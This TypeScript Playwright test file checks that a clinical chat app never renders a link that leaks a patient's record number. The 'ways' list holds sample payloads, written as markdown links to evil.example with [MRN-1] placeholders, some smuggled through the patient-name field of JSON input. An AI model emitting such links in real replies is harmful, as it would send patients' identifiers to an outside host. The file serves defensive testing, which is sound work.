import type { Page } from '@playwright/test';
import { answer } from '../../server/src/models/testing/scripted-endpoint.ts';
import { copyButton, expect, lastReply, messageBox } from '../fixtures.ts';
import { planAnswer } from '../scripted-model.ts';
import { chooseTool, test } from './scripted-app.ts';

/**
 * A model that wants a patient's number to be followed to an address of its own: it lets the server itself put the link together,
 * from the words that stand in for a code, or from a name that the author of the text made up to be the missing mark.
 */
const number = '44719023';
const ways: readonly (readonly [message: string, words: string])[] = [
  ['Patient: Jane Sample, MRN 44719023. Cough.', 'J18.9(http:evil.example/[MRN-1])'],
  ['Patient: Jane Sample, MRN 44719023. Cough.', '!J18.9(http:evil.example/[MRN-1])'],
  ['Patient: Jane Sample, MRN 44719023. Cough.', 'J18.9: http:evil.example/[MRN-1]\n\nSee [code removed].'],
  ['{"patient":"Zeb]","mrn":"44719023","note":"cough"}', '[see [NAME-1](http:evil.example/[MRN-1])'],
  ['{"patient":"x](http:evil.example/","mrn":"44719023","note":"cough"}', '[see [NAME-1][MRN-1])'],
];

/** Where the links of the page lead. */
const destinations = (page: Page): Promise<string[]> =>
  page.locator('article a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));

/**
 * The last is not sent for a note: cut into lines, its fields are none any more, and the shield does not vouch for it. A note has no
 * place for a number behind a host; an audit is given the number back, as words.
 */
const tools = [
  ['Chartwright', ways.slice(0, -1), 'link removed', (words: string) => planAnswer([words, `End of ${words.length}.`])],
  ['Validify', ways, number, (words: string) => answer(`${words}\n\nEnd of ${words.length}.`)],
] as const;

for (const [tool, those, left, say] of tools)
  test(`no reply of ${tool} leads to an address that the text lacks, whoever puts it together`, async ({
    home,
    endpoint,
    watch,
  }) => {
    await chooseTool(home, tool);
    for (const [message, words] of those) {
      endpoint.play(say(words));
      await messageBox(home).fill(message);
      await home.keyboard.press('Enter');
      await expect(lastReply(home)).toContainText(`End of ${words.length}.`, { timeout: 60_000 });
      await expect(copyButton(lastReply(home))).toBeVisible({ timeout: 60_000 });
      expect.soft(await destinations(home), words).toEqual([]);
    }
    await home.reload();
    await expect(lastReply(home)).toContainText('End of', { timeout: 60_000 });
    expect(await destinations(home)).toEqual([]);
    expect(await lastReply(home).innerText()).toContain(left);
    expect(watch.faults).toEqual([]);
  });
